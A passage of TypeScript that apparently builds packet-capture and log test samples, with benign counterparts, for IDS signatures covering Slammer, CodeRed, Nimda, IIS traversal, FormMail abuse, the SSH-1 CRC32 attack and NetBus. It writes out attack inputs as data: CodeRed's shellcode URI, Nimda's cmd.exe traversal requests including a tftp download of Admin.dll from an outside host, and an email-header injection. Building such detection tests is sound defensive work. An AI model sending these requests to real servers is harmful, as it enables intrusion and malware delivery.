    },
    [3100101, 3100102, 3100110, 3100111, 3100112, 3100120, 3100121, 3100122],
  );

  log(
    'sendmail-attacks.log',
    [3100110, 3100121],
    'sendmail syslog lines: a from= address of backslash + 0xFF pairs, and a to= list of three 250-byte elements',
    [
      `Mar 17 09:20:01 mail sendmail[4242]: h2H9K1004242: from=<${'\\\xff'.repeat(40)}@example.net>, size=412, class=0, nrcpts=1, msgid=<x@example.net>, proto=ESMTP, daemon=MTA, relay=attacker.example.net [${ATTACKER}]`,
      `Mar 17 09:20:02 mail sendmail[4243]: h2H9K2004243: to=${long('d')},${long('e')},${long('f')}, delay=00:00:01, xdelay=00:00:01, mailer=esmtp, pri=30412, relay=mx.example.net. [${REMOTE_MX}], dsn=2.0.0, stat=Sent (ok)`,
    ],
  );
  log(
    'neg-sendmail.log',
    [],
    'ordinary sendmail syslog lines, including a to= list of twelve recipients and the null sender',
    [
      `Mar 17 09:30:01 mail sendmail[5001]: h2H9U1005001: from=<john.doe@example.com>, size=2048, class=0, nrcpts=12, msgid=<20030317093001.A5001@example.com>, proto=ESMTP, daemon=MTA, relay=desk23.example.com [${DESKTOP}]`,
      `Mar 17 09:30:02 mail sendmail[5002]: h2H9U1005001: to=${Array.from({ length: 12 }, (_, i) => `<member${i}@example.com>`).join(',')}, delay=00:00:01, xdelay=00:00:01, mailer=local, pri=32048, dsn=2.0.0, stat=Sent`,
      `Mar 17 09:30:03 mail sendmail[5003]: h2H9U3005003: from=<>, size=3100, class=0, nrcpts=1, msgid=<200303170930.h2H9U3005003@example.org>, proto=ESMTP, daemon=MTA, relay=mx.example.org [${REMOTE_MX}]`,
    ],
    [3100110, 3100111, 3100120, 3100121],
  );
}

// ---------------------------------------------------------------------------------------------
// SQL Slammer and the Resolution Service (sids 3100201-3100204)

/** A 376-byte datagram shaped like Slammer's: 0x04, a run of 0x01, the sqlsort.dll return address, code. */
function slammerPayload(): Uint8Array {
  const out = new Uint8Array(376);
  out[0] = 0x04;
  out.fill(0x01, 1, 97);
  out.set([0xdc, 0xc9, 0xb0, 0x42, 0xeb, 0x0e], 97);
  out.fill(0x01, 103, 115);
  out.set(noise(376 - 115, 0x51a3, [0x00]), 115);
  return out;
}

function slammerSamples(): void {
  pcap('slammer/inbound.pcap', [3100201, 3100203], 'one Slammer datagram from the Internet to the monitored SQL server', (cap) => {
    cap.add([udpPacket({ src: `${ATTACKER}:3072`, dst: `${SQL}:1434`, payload: slammerPayload(), tsUs: cap.now(), ttl: 113 })]);
  });
  pcap('slammer/outbound.pcap', [3100202, 3100203], 'a monitored desktop sending Slammer datagrams to three Internet hosts (infected host)', (cap) => {
    for (let i = 0; i < 3; i++) {
      cap.add([udpPacket({ src: `${DESKTOP}:1062`, dst: `${[REMOTE_SQL, '203.0.113.78', '203.0.113.79'][i]}:1434`, payload: slammerPayload(), tsUs: cap.now(), ttl: 128 })]);
    }
  });
  pcap('slammer/inbound-fragmented.pcap', [3100201, 3100203], 'the inbound datagram split into three IP fragments sent last-first', (cap) => {
    const p = udpPacket({ src: `${ATTACKER2}:4096`, dst: `${SQL}:1434`, payload: slammerPayload(), tsUs: cap.now(), ttl: 110, id: 0x1a2b });
    cap.add(fragmentPacket(p, { sizes: [128, 128], order: [2, 1, 0] }));
  });
  pcap('slammer/resolution-heap-overflow.pcap', [3100204], 'an 0x08 Resolution Service request with a 200-byte server name (the MS02-039 heap overflow)', (cap) => {
    cap.add([udpPacket({ src: `${ATTACKER}:2048`, dst: `${SQL}:1434`, payload: `\x08${'A'.repeat(200)}:1433`, tsUs: cap.now() })]);
  });
  pcap(
    'slammer/neg-sql-browser.pcap',
    [],
    'ordinary SQL Server Resolution Service traffic: 0x02 and 0x03 discovery, an 0x04 instance lookup and the server answers (from port 1434)',
    (cap) => {
      const answer = '\x05\x58\x00ServerName;SQL1;InstanceName;MSSQLSERVER;IsClustered;No;Version;8.00.194;tcp;1433;;';
      cap.add([udpPacket({ src: `${COLLEAGUE}:1070`, dst: '192.168.255.255:1434', payload: '\x02', tsUs: cap.now() })]);
      cap.add([udpPacket({ src: `${SQL}:1434`, dst: `${COLLEAGUE}:1070`, payload: answer, tsUs: cap.now() })]);
      cap.add([udpPacket({ src: `${COLLEAGUE}:1071`, dst: `${SQL}:1434`, payload: '\x03', tsUs: cap.now() })]);
      cap.add([udpPacket({ src: `${COLLEAGUE}:1072`, dst: `${SQL}:1434`, payload: '\x04MSSQLSERVER\x00', tsUs: cap.now() })]);
      cap.add([udpPacket({ src: `${SQL}:1434`, dst: `${COLLEAGUE}:1072`, payload: answer, tsUs: cap.now() })]);
      cap.add([udpPacket({ src: `${COLLEAGUE}:1073`, dst: `${SQL}:1434`, payload: '\x04SQLEXPRESS\x00', tsUs: cap.now() })]);
    },
    [3100201, 3100202, 3100203, 3100204],
  );
}

// ---------------------------------------------------------------------------------------------
// CodeRed (sids 3100301-3100303)

const CODERED_SHELLCODE_URI =
  '%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a';

function codeRedRequest(pad: string): string {
  const body = latin1(noise(3379, pad.charCodeAt(0)));
  return `GET /default.ida?${pad.repeat(224)}${CODERED_SHELLCODE_URI} HTTP/1.0\r\nContent-type: text/xml\r\nContent-length: 3379 \r\n\r\n${body}`;
}

function codeRedSamples(): void {
  pcap('codered/codered1.pcap', [3100301, 3100303], 'the CodeRed I request (224 N, %u shellcode, 3379-byte body) against an IIS server that answers 404', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: codeRedRequest('N'), response: notFound() }]);
  });
  pcap('codered/codered2.pcap', [3100302, 3100303], 'the CodeRed II / CodeRed.F request (224 X) from an Internet host', (cap) => {
    cap.http(ATTACKER2, `${IIS}:80`, [{ request: codeRedRequest('X'), response: null }]);
  });
  pcap('codered/codered2-segmented.pcap', [3100302, 3100303], 'the CodeRed II request in 10-byte segments, the third and fourth swapped', (cap) => {
    const req = toBytes(codeRedRequest('X'));
    const order = Array.from({ length: Math.ceil(req.length / 10) }, (_, i) => i);
    [order[2], order[3]] = [order[3]!, order[2]!];
    cap.http(ATTACKER, `${IIS}:80`, [{ request: req, requestSend: { segments: order.map(() => 10), order }, response: notFound() }]);
  });
  pcap('codered/codered1-encoded.pcap', [3100301, 3100303], 'the CodeRed I request with ".ida" and its N padding written as %2e and %4E escapes', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: `GET /default%2eida?${'%4E'.repeat(224)}${CODERED_SHELLCODE_URI} HTTP/1.0\r\n\r\n`, response: notFound() }]);
  });
  pcap('codered/idq-overflow.pcap', [3100303], 'an .idq request with a 300-byte query (the ISAPI overflow without either worm\'s padding)', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: get(`/null.idq?${'A'.repeat(300)}`), response: notFound() }]);
  });
  pcap(
    'codered/neg-index-server.pcap',
    [],
    'ordinary Index Server queries (.idq with a short query, .ida without one) and a page about CodeRed',
    (cap) => {
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get('/query.idq?CiRestriction=%23filename+*.asp&CiMaxRecordsPerPage=10&CiScope=%2F&TemplateName=query&CiSort=rank%5Bd%5D&HTMLQueryForm=%2Fquery.htm', { Host: IIS }), response: ok('<html>3 documents</html>') },
        { request: get('/default.ida', { Host: IIS }), response: notFound() },
        { request: get('/security/codered.html', { Host: IIS }), response: ok(`<html>CodeRed sends GET /default.ida?NNNN...${'N'.repeat(30)}</html>`) },
      ]);
    },
    [3100301, 3100302, 3100303],
  );
  log(
    'codered-apache.log',
    [3100301, 3100302, 3100303],
    'Apache combined log of a CodeRed I and a CodeRed II request',
    [
      `${ATTACKER} - - [17/Mar/2003:10:00:01 +0000] "GET /default.ida?${'N'.repeat(224)}${CODERED_SHELLCODE_URI} HTTP/1.0" 404 286 "-" "-"`,
      `${ATTACKER2} - - [17/Mar/2003:10:00:02 +0000] "GET /default.ida?${'X'.repeat(224)}${CODERED_SHELLCODE_URI} HTTP/1.0" 404 286 "-" "-"`,
    ],
  );
}

// ---------------------------------------------------------------------------------------------
// Nimda and the IIS command-execution family (sids 3100401-3100406, 3100501-3100508)

/** Nimda's sixteen requests, as the worm sent them. */
const NIMDA_SCAN = [
  '/scripts/root.exe?/c+dir',
  '/MSADC/root.exe?/c+dir',
  '/c/winnt/system32/cmd.exe?/c+dir',
  '/d/winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%5c../winnt/system32/cmd.exe?/c+dir',
  '/_vti_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
  '/_mem_bin/..%5c../..%5c../..%5c../winnt/system32/cmd.exe?/c+dir',
  '/msadc/..%5c../..%5c../..%5c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir',
  '/scripts/..%252f../winnt/system32/cmd.exe?/c+dir',
];
const NIMDA_SCAN_SIDS = [3100401, 3100501, 3100502, 3100503, 3100504, 3100505, 3100506];

const DIR_LISTING =
  ' Volume in drive C has no label.\r\n Volume Serial Number is 3C6B-1A2F\r\n\r\n Directory of C:\\inetpub\\scripts\r\n\r\n' +
  '03/17/2003  09:00a      <DIR>          .\r\n03/17/2003  09:00a      <DIR>          ..\r\n               0 File(s)              0 bytes\r\n               2 Dir(s)   1,234,567,890 bytes free\r\n';

const NIMDA_PAGE_SCRIPT = '<html><script language="JavaScript">window.open("readme.eml", null, "resizable=no,top=6000,left=6000")</script></html>';

function nimdaMime(): string {
  const b64 = Buffer.from(noise(600, 0x4d5a)).toString('base64').replace(/(.{76})/g, '$1\r\n');
  return [
    'MIME-Version: 1.0',
    'Content-Type: multipart/related;',
    '\ttype="multipart/alternative";',
    '\tboundary="====_ABC1234567890DEF_===="',
    'X-Priority: 3',
    'X-MSMail-Priority: Normal',
    'X-Unsent: 1',
    '',
    '--====_ABC1234567890DEF_====',
    'Content-Type: text/html;',
    '\tcharset="iso-8859-1"',
    'Content-Transfer-Encoding: quoted-printable',
    '',
    '<HTML><HEAD></HEAD><BODY><iframe src=3Dcid:EA4DMGBP9p height=3D0 width=3D0></iframe></BODY></HTML>',
    '',
    '--====_ABC1234567890DEF_====',
    'Content-Type: audio/x-wav;',
    '\tname="readme.exe"',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <EA4DMGBP9p>',
    '',
    b64,
    '--====_ABC1234567890DEF_====--',
    '',
  ].join('\r\n');
}

function nimdaSamples(): void {
  pcap('nimda/scan.pcap', NIMDA_SCAN_SIDS, "Nimda's sixteen scan requests, one connection each, every one answered 404", (cap) => {
    for (const uri of NIMDA_SCAN) cap.http(ATTACKER, `${IIS}:80`, [{ request: get(uri, { Host: IIS }), response: notFound() }]);
  });
  pcap(
    'nimda/scan-uppercase-segmented.pcap',
    [3100401, 3100501, 3100503, 3100506],
    'one scan request in upper case ("/SCRIPTS/..%C1%1C../WINNT/SYSTEM32/CMD.EXE?/c+dir") sent one byte per segment for its first 40 bytes',
    (cap) => {
      const req = toBytes(`GET /SCRIPTS/..%C1%1C../WINNT/SYSTEM32/CMD.EXE?/c+dir HTTP/1.0\r\nHost: ${IIS}\r\n\r\n`);
      cap.http(ATTACKER2, `${IIS}:80`, [{ request: req, requestSend: { segments: Array.from({ length: 40 }, () => 1) }, response: notFound() }]);
    },
  );
  pcap(
    'nimda/infection.pcap',
    [3100401, 3100402, 3100403, 3100501, 3100503, 3100506, 3100507, 3100508],
    'a successful Nimda infection: the dir probe answered 200 with a listing, the tftp download of Admin.dll, then /Admin.dll run through the traversal',
    (cap) => {
      cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir', { Host: IIS }), response: ok(DIR_LISTING, 'text/plain') }]);
      cap.http(ATTACKER, `${IIS}:80`, [
        { request: get('/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+tftp%20-i%20203.0.113.5%20GET%20Admin.dll%20c:\\Admin.dll', { Host: IIS }), response: ok('Transfer successful: 57344 bytes in 1 second.\r\n', 'text/plain') },
      ]);
      cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/scripts/..%c1%1c../Admin.dll', { Host: IIS }), response: { status: 500, reason: 'Server Error', headers: { Server: 'Microsoft-IIS/5.0' } } }]);
    },
  );
  pcap('nimda/infected-server.pcap', [3100404, 3100405], 'a desktop browsing a Nimda-infected web site: the page carries the readme.eml script, the browser then fetches readme.eml', (cap) => {
    cap.http(DESKTOP, `${REMOTE_WEB}:80`, [
      { request: get('/index.html', { Host: 'www.example.org' }), response: ok(NIMDA_PAGE_SCRIPT) },
      { request: get('/readme.eml', { Host: 'www.example.org' }), response: ok(nimdaMime(), 'application/octet-stream') },
    ]);
  });
  pcap('nimda/mass-mail.pcap', [3100406], 'an infected desktop mailing the Nimda MIME message (readme.exe as audio/x-wav) to an Internet mail server', (cap) => {
    cap.session(
      smtpConversation({ client: cap.ephemeral(DESKTOP), server: `${REMOTE_MX}:25`, startUs: cap.now(), from: 'user@example.com', to: 'friend@example.org', message: `From: user@example.com\r\nTo: friend@example.org\r\nSubject: \r\n${nimdaMime()}` }),
    );
  });
  pcap(
    'nimda/neg-browsing.pcap',
    [],
    'ordinary browsing and mail: cmd.exe only in a query or in cmd.exe.zip, FrontPage /_vti_bin/_vti_adm/admin.dll, an advisory page quoting readme.eml, a readme.eml.txt download, UTF-8 and Latin-1 URIs, a 50%25 path; a mail with a WAV attachment',
    (cap) => {
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get('/search.asp?q=cmd.exe+tutorial', { Host: IIS }), response: ok('<html>results</html>') },
        { request: get('/downloads/cmd.exe.zip', { Host: IIS }), response: ok('PK', 'application/zip') },
        { request: get('/_vti_bin/_vti_adm/admin.dll', { Host: IIS }), response: ok('<html>FrontPage</html>') },
        { request: get('/advisories/nimda.html', { Host: IIS }), response: ok('<html>Nimda copies readme.eml into every web folder and appends a script that opens it.</html>') },
        { request: get('/files/readme.eml.txt', { Host: IIS }), response: ok('notes', 'text/plain') },
        { request: get('/caf%C3%A9/men%C3%BC.html', { Host: IIS }), response: ok('<html>menu</html>') },
        { request: get('/\xc1lbum/\xc0lbum.html', { Host: IIS }), response: notFound() },
        { request: get('/%E2%82%AC/prices.html', { Host: IIS }), response: ok('<html>prices</html>') },
        { request: get('/sale/50%25off.html', { Host: IIS }), response: ok('<html>sale</html>') },
        { request: get('/docs/windows/system32-guide/index.html', { Host: IIS }), response: ok('<html>guide</html>') },
        { request: get('/help/dir.html', { Host: IIS }), response: ok(`<html><pre>${DIR_LISTING}</pre></html>`) },
      ]);
      cap.session(
        smtpConversation({
          client: cap.ephemeral(COLLEAGUE),
          server: `${MAIL}:25`,
          startUs: cap.now(),
          from: 'alice@example.com',
          to: 'bob@example.com',
          message: mail(
            ['From: alice@example.com', 'To: bob@example.com', 'Subject: recording', 'MIME-Version: 1.0', 'Content-Type: multipart/mixed; boundary="b1"'],
            `--b1\r\nContent-Type: text/plain\r\n\r\nThe recording, and see readme.txt on the share.\r\n--b1\r\nContent-Type: audio/x-wav; name="meeting.wav"\r\nContent-Transfer-Encoding: base64\r\n\r\nUklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA=\r\n--b1--\r\n`,
          ),
        }),
      );
    },
    [3100401, 3100402, 3100403, 3100404, 3100405, 3100406, 3100501, 3100502, 3100503, 3100504, 3100505, 3100506, 3100507, 3100508],
  );

  const iisHeader = [
    '#Software: Microsoft Internet Information Services 5.0',
    '#Version: 1.0',
    '#Date: 2003-03-17 11:00:00',
    '#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem cs-uri-query sc-status cs(User-Agent)',
  ];
  log(
    'nimda-iis.log',
    NIMDA_SCAN_SIDS,
    "IIS W3C log of Nimda's sixteen scan requests, all answered 404",
    [
      ...iisHeader,
      ...NIMDA_SCAN.map((u, i) => {
        const q = u.indexOf('?');
        return `2003-03-17 11:00:${String(i).padStart(2, '0')} ${ATTACKER} - ${IIS} 80 GET ${u.slice(0, q)} ${u.slice(q + 1)} 404 -`;
      }),
    ],
  );
  log(
    'nimda-apache.log',
    [3100401, 3100402, 3100403, 3100501, 3100502, 3100503, 3100504, 3100505, 3100506, 3100508],
    'Apache combined log of the Nimda scan, then an infection: dir answered 200, tftp of Admin.dll, Admin.dll run',
    [
      ...NIMDA_SCAN.map((u, i) => `${ATTACKER} - - [17/Mar/2003:11:10:${String(i).padStart(2, '0')} +0000] "GET ${u} HTTP/1.0" 404 290 "-" "-"`),
      `${ATTACKER2} - - [17/Mar/2003:11:11:00 +0000] "GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir HTTP/1.0" 200 412 "-" "-"`,
      `${ATTACKER2} - - [17/Mar/2003:11:11:01 +0000] "GET /scripts/..%c1%1c../winnt/system32/cmd.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\\\Admin.dll HTTP/1.0" 200 48 "-" "-"`,
      `${ATTACKER2} - - [17/Mar/2003:11:11:02 +0000] "GET /scripts/..%c1%1c../Admin.dll HTTP/1.0" 500 120 "-" "-"`,
    ],
  );
}

function webIisSamples(): void {
  pcap('web-iis/utf8-evasion.pcap', [3100503], 'overlong UTF-8 traversals to ordinary files: %c0%af, raw bytes 0xC1 0x1C, %e0%80%af', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      { request: get('/scripts/..%c0%af../inetpub/wwwroot/default.htm', { Host: IIS }), response: notFound() },
      { request: get('/scripts/..\xc1\x1c../boot.ini', { Host: IIS }), response: notFound() },
      { request: get('/scripts/..%e0%80%af../boot.ini', { Host: IIS }), response: notFound() },
    ]);
  });
  pcap('web-iis/double-decode.pcap', [3100504], 'double-encoded traversals to ordinary files: %255c, %%35c, %252f, %25%32%66', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      { request: get('/scripts/..%255c../boot.ini', { Host: IIS }), response: notFound() },
      { request: get('/scripts/..%%35c../boot.ini', { Host: IIS }), response: notFound() },
      { request: get('/scripts/..%252f../boot.ini', { Host: IIS }), response: notFound() },
      { request: get('/scripts/..%25%32%66../boot.ini', { Host: IIS }), response: notFound() },
    ]);
  });
  pcap('web-iis/backslash-traversal.pcap', [3100505], 'traversals through an encoded (%5c) and a raw backslash', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      { request: get('/scripts/..%5c../boot.ini', { Host: IIS }), response: notFound() },
      { request: get('/iisadmpwd/..\\..\\boot.ini', { Host: IIS }), response: notFound() },
    ]);
  });
  pcap('web-iis/system32-path.pcap', [3100506], 'a request for tftp.exe under /c/winnt/system32/', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/c/winnt/system32/tftp.exe?-i+203.0.113.5+GET+x.exe', { Host: IIS }), response: notFound() }]);
  });
  pcap('web-iis/cmd-exe.pcap', [3100501], 'cmd.exe copied into /scripts/ and asked for its version, answered 404', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/scripts/cmd.exe?/c+ver', { Host: IIS }), response: notFound() }]);
  });
  pcap('web-iis/root-exe.pcap', [3100502], 'the CodeRed II backdoor /MSADC/root.exe asked for the version, answered 404', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/MSADC/root.exe?/c+ver', { Host: IIS }), response: notFound() }]);
  });
  pcap('web-iis/cmd-exe-answered.pcap', [3100401, 3100501, 3100507, 3100508], 'cmd.exe in /scripts/ running "dir" and returning the listing with 200', (cap) => {
    cap.http(ATTACKER2, `${IIS}:80`, [{ request: get('/scripts/cmd.exe?/c+dir+c:\\', { Host: IIS }), response: ok(DIR_LISTING, 'text/plain') }]);
  });
}

// ---------------------------------------------------------------------------------------------
// FormMail (sids 3100601-3100604)

function formmailSamples(): void {
  pcap('formmail/probe.pcap', [3100601], 'a spammer checking /cgi-bin/formmail.pl exists (bare GET)', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [{ request: get('/cgi-bin/formmail.pl', { Host: IIS }), response: notFound() }]);
  });
  pcap('formmail/relay-query.pcap', [3100602], 'FormMail.pl called with an outside recipient, subject and sender in the query string', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      { request: get('/cgi-bin/FormMail.pl?recipient=victim@example.org&subject=Best+offer&email=spammer%40example.net&body=Buy+now', { Host: IIS }), response: ok('<html>Thank you</html>') },
    ]);
  });
  pcap('formmail/relay-body.pcap', [3100603], 'a POST to formmail.cgi whose recipient field lists three outside addresses', (cap) => {
    cap.http(ATTACKER2, `${IIS}:80`, [
      {
        request: { method: 'POST', uri: '/cgi-bin/formmail.cgi', headers: { Host: IIS, 'Content-Type': 'application/x-www-form-urlencoded' }, body: 'recipient=a%40example.org%2Cb%40example.net%2Cc%40example.com&subject=Offer&email=x%40example.net&comments=Buy+now' },
        response: ok('<html>Thank you</html>'),
      },
    ]);
  });
  pcap('formmail/header-injection.pcap', [3100604], 'FormMail called with a newline and a Bcc: header injected into the email field', (cap) => {
    cap.http(ATTACKER, `${IIS}:80`, [
      { request: get('/cgi-bin/formmail.pl?recipient=webmaster&email=x%40example.net%0ABcc:%20victim1@example.org,victim2@example.org&subject=hi', { Host: IIS }), response: ok('<html>Thank you</html>') },
    ]);
  });
  pcap(
    'formmail/neg-contact-form.pcap',
    [],
    'the site\'s own contact form: the form page formmail.html, a POST with one recipient, a GET of formmail.pl with only a subject',
    (cap) => {
      cap.http(COLLEAGUE, `${IIS}:80`, [
        { request: get('/formmail.html', { Host: IIS }), response: ok('<html><form action="/cgi-bin/formmail.pl" method="POST"></form></html>') },
        { request: { method: 'POST', uri: '/cgi-bin/formmail.pl', headers: { Host: IIS, 'Content-Type': 'application/x-www-form-urlencoded', Referer: `http://${IIS}/formmail.html` }, body: 'recipient=webmaster%40example.com&subject=Question&email=alice%40example.org&realname=Alice&comments=Hello%0D%0AThanks' }, response: ok('<html>Thank you</html>') },
        { request: get('/cgi-bin/formmail.pl?subject=Question', { Host: IIS }), response: ok('<html>Error: no recipient</html>') },
      ]);
    },
    [3100601, 3100602, 3100603, 3100604, 3100605],
  );
  log(
    'formmail-apache.log',
    [3100601, 3100602, 3100604],
    'Apache combined log of a FormMail probe, a relay with the recipient in the query, and a Bcc: injection',
    [
      `${ATTACKER} - - [17/Mar/2003:12:00:01 +0000] "GET /cgi-bin/formmail.pl HTTP/1.0" 404 280 "-" "-"`,
      `${ATTACKER} - - [17/Mar/2003:12:00:02 +0000] "GET /cgi-bin/FormMail.pl?recipient=victim@example.org&subject=Best+offer HTTP/1.0" 200 120 "-" "-"`,
      `${ATTACKER} - - [17/Mar/2003:12:00:03 +0000] "GET /cgi-bin/formmail.pl?recipient=webmaster&email=x%40example.net%0ABcc:%20victim1@example.org HTTP/1.0" 200 120 "-" "-"`,
    ],
  );
}

// ---------------------------------------------------------------------------------------------
// SSH CRC32 compensation attack (sids 3100701-3100703)

function ssh1Session(cap: Capture, client: string, attack: boolean, split = false): void {
  const s = cap.tcp(client, `${SSHD}:22`);
  s.handshake();
  s.send('server', 'SSH-1.5-1.2.27\n');
  s.send('client', 'SSH-1.5-1.2.27\n', split ? { segments: Array.from({ length: 15 }, () => 1) } : {});
  // SSH_SMSG_PUBLIC_KEY and SSH_CMSG_SESSION_KEY: length-prefixed, their bodies look random.
  s.send('server', concatBytes([Uint8Array.of(0, 0, 0x01, 0x0c), noise(0x110, 0x22)]));
  s.send('client', concatBytes([Uint8Array.of(0, 0, 0x00, 0x94), noise(0x98, 0x23)]));
  s.send('server', noise(16, 0x24));
  if (attack) {
    // One packet announcing 90112 bytes: zero padding, then long runs of identical 8-byte blocks.
    const length = 0x16000;
    const packet = new Uint8Array(4 + 8 + length);
    new DataView(packet.buffer).setUint32(0, length);
    const block = Uint8Array.of(0x41, 0x42, 0x43, 0x44, 0x00, 0x00, 0x00, 0x01);
    for (let o = 12 + 4096; o + 8 <= packet.length; o += 8) packet.set(block, o);
    s.send('client', packet, split ? { segments: [100, 7, 1000, 13, 999] } : {});
    s.reset('server');
  } else {
    for (let i = 0; i < 6; i++) {
      s.send('client', noise(48, 0x30 + i));
      s.send('server', noise(64, 0x40 + i));
    }
    s.close();
  }
  cap.session(s);
}

function sshSamples(): void {
  pcap('ssh/ssh1-session.pcap', [3100701], 'an ordinary SSH-1.5 session (version exchange, keys, a few encrypted packets)', (cap) => ssh1Session(cap, COLLEAGUE, false));
  pcap('ssh/crc32-attack.pcap', [3100701, 3100702, 3100703], 'after the SSH-1 exchange, a 90112-byte packet of zero padding and repeated 8-byte blocks (the CRC32 compensation attack shape)', (cap) =>
    ssh1Session(cap, ATTACKER, true),
  );
  pcap(
    'ssh/crc32-attack-segmented.pcap',
    [3100701, 3100702, 3100703],
    'the same attack with the client version string sent one byte per segment and the attack packet cut at odd points',
    (cap) => ssh1Session(cap, ATTACKER2, true, true),
  );
  pcap(
    'ssh/neg-ssh2-session.pcap',
    [],
    'an SSH-2 client talking to an SSH-1.99 server, with a large client packet full of zero bytes: SSH-1 rules stay silent',
    (cap) => {
      const s = cap.tcp(COLLEAGUE, `${SSHD}:22`);
      s.handshake();
      s.send('server', 'SSH-1.99-OpenSSH_3.5p1\n');
      s.send('client', 'SSH-2.0-OpenSSH_3.5p1\r\n');
      s.send('client', concatBytes([Uint8Array.of(0, 0, 0x01, 0x54, 0x08, 0x14), noise(0x152, 0x61)]));
      s.send('server', concatBytes([Uint8Array.of(0, 0, 0x01, 0x64, 0x06, 0x14), noise(0x162, 0x62)]));
      const big = new Uint8Array(4 + 0x12000);
      new DataView(big.buffer).setUint32(0, 0x12000);
      s.send('client', big);
      s.close();
      cap.session(s);
    },
    [3100701, 3100702, 3100703],
  );
}

// ---------------------------------------------------------------------------------------------
// NetBus, traceroute, remote shells (sids 3100801-3100821)

function miscSamples(): void {
  pcap('misc/netbus.pcap', [3100801, 3100802], 'a scanner connecting to tcp/12345 on a desktop that answers with the NetBus 1.70 banner, then asking GetInfo', (cap) => {
    const s = cap.tcp(ATTACKER, `${DESKTOP}:12345`);
    s.handshake();
    s.send('server', 'NetBus 1.70 \r');
    s.send('client', 'GetInfo\r');
    s.send('server', 'Info;Program Path: C:\\WINDOWS\\Patch.exe|Restart persistent: Yes|Login ID: user|Clients connected to this host: 1\r');
    s.close();
    cap.session(s);
  });
  pcap(
    'misc/neg-port-12345.pcap',
    [],
    'a backup agent on tcp/12345 with its own banner, and a web page quoting the NetBus banner',
    (cap) => {
      const s = cap.tcp(COLLEAGUE, `${FILESRV}:12345`);
      s.handshake();
      s.send('server', '220 backup-agent 4.2 ready\r\n');
      s.send('client', 'STATUS\r\n');
      s.send('server', '200 idle\r\n');
      s.close();
      cap.session(s);
      cap.http(COLLEAGUE, `${IIS}:80`, [{ request: get('/trojans/netbus.html', { Host: IIS }), response: ok('NetBus 1.70 \r answers GetInfo\r with its settings.') }]);
    },
    [3100801, 3100802],
  );
  pcap('misc/traceroute-udp.pcap', [3100811], 'UDP traceroute probes reaching the server with TTL 1 (ports 33434-33436)', (cap) => {
    for (let i = 0; i < 3; i++) cap.add([udpPacket({ src: `${ATTACKER}:40001`, dst: `${IIS}:${33434 + i}`, payload: noise(12, 0x70 + i), tsUs: cap.now(), ttl: 1 })]);
  });
  pcap('misc/traceroute-icmp.pcap', [3100812], 'Windows tracert: ICMP echo requests arriving with TTL 1', (cap) => {
    for (let i = 0; i < 3; i++) cap.add([icmpPacket({ src: ATTACKER, dst: IIS, type: 8, id: 0x200, seq: 0x1a00 + i, payload: '\x00'.repeat(64), tsUs: cap.now(), ttl: 1 })]);
  });
  pcap(
    'misc/neg-ping-dns.pcap',
    [],
    'ping with ordinary TTLs and a TTL-1 echo reply, DNS, a TTL-1 multicast DNS packet, a UDP packet to 33434 with TTL 40',
    (cap) => {
      cap.add([icmpPacket({ src: COLLEAGUE, dst: IIS, type: 8, id: 0x300, seq: 1, payload: 'abcdefghijklmnopqrstuvwabcdefghi', tsUs: cap.now(), ttl: 128 })]);
      cap.add([icmpPacket({ src: IIS, dst: COLLEAGUE, type: 0, id: 0x300, seq: 1, payload: 'abcdefghijklmnopqrstuvwabcdefghi', tsUs: cap.now(), ttl: 1 })]);
      cap.add([udpPacket({ src: `${COLLEAGUE}:1053`, dst: '192.168.1.2:53', payload: noise(30, 0x80), tsUs: cap.now(), ttl: 64 })]);
      cap.add([udpPacket({ src: `${COLLEAGUE}:5353`, dst: '224.0.0.251:5353', payload: noise(40, 0x81), tsUs: cap.now(), ttl: 1 })]);
      cap.add([udpPacket({ src: `${ATTACKER}:40002`, dst: `${IIS}:33434`, payload: noise(12, 0x82), tsUs: cap.now(), ttl: 40 })]);
    },
    [3100811, 3100812],
  );
  const banner = 'Microsoft Windows 2000 [Version 5.00.2195]\r\n(C) Copyright 1985-2000 Microsoft Corp.\r\n\r\nC:\\WINNT\\system32>';
  pcap('misc/bind-shell.pcap', [3100821, 3100822], 'the attacker connecting to a cmd.exe bound to tcp/31337 on the web server (as left by the MS03-007 exploits): banner, prompt, whoami', (cap) => {
    const s = cap.tcp(ATTACKER, `${IIS}:31337`);
    s.handshake();
    s.send('server', banner);
